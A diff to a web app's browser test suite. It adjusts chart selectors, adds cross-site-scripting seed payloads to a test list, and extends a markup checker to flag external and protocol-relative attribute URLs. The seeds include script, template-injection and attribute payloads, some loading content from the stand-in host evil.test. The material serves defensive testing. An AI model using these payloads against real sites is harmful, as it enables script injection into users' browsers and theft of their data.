@@ -143,8 +143,8 @@ def test_a_skipped_check_can_be_seen(page: Any, site: str) -> None:
 
 def test_training_charts(page: Any, site: str) -> None:
     page.goto(f"{site}run/{runs(site)['training']}/training")
-    page.wait_for_function("() => document.querySelectorAll('.uplot').length == 3")
-    page.locator("#plot-loss .u-over").click()
+    page.wait_for_function("() => document.querySelectorAll('.plot canvas').length == 3")
+    page.locator("#plot-loss canvas").click()
     page.wait_for_url(re.compile("/trace/"))
 
 
@@ -205,6 +205,7 @@ _SEEDS = [
     "{{7*7}}{{constructor.constructor('hit(32)')()}}", "${hit(33)}", "<%= hit(34) %>", "#{hit(35)}", "{% raw %}hit(36)", "&lt;script&gt;hit(37)&lt;/script&gt;",
     "&#60;script&#62;hit(38)&#60;/script&#62;", "%3Cscript%3Ehit(39)%3C/script%3E", "\\u003cscript\\u003ehit(40)\\u003c/script\\u003e",
     "<img hx-get=/ hx-trigger=load hx-on::load=hit(41)>", "<div hx-on:click=hit(42) hx-trigger=load>", "<div data-hx-get=//evil.test hx-trigger=load>",
+    "<div data-get=//evil.test data-when=load>", "<form data-post=//evil.test data-into=#main>", "<div data-get=/ data-into=body data-when=load>",
     "<script src=//evil.test/x.js></script>", "<scr<script>ipt>hit(45)</script>", "<svg><script>hit(46)</script></svg>", "<svg><a xlink:href=javascript:hit(47)>x",
     "<img src=1 href=1 onerror=hit(48)//", "<marquee onstart=hit(49)>", "<form action=javascript:hit(50)><button>x", "<x onclick=hit(51) style=position:fixed;inset:0>",
     "'-hit(52)-'", "\";hit(53);//", "</pre><script>hit(54)</script>", "</td></table><script>hit(55)</script>", "]]><script>hit(56)</script>",
@@ -292,8 +293,8 @@ class Markup(HTMLParser):
             self.bad.append(str(self.get_starttag_text()))
         if tag == "script" and not str(given.get("src")).startswith("/static/"):
             self.bad.append("script")
-        for name in ("href", "src", "action", "hx-get", "hx-post", "data-hx-get"):
-            if name in given and not str(given[name]).startswith(("/", "#")):
+        for name in ("href", "src", "action", "data-get", "data-post", "hx-get", "hx-post", "data-hx-get"):
+            if name in given and (not str(given[name]).startswith(("/", "#")) or str(given[name]).startswith("//")):
                 self.bad.append(f"{tag} {name}={given[name]}")
 
 
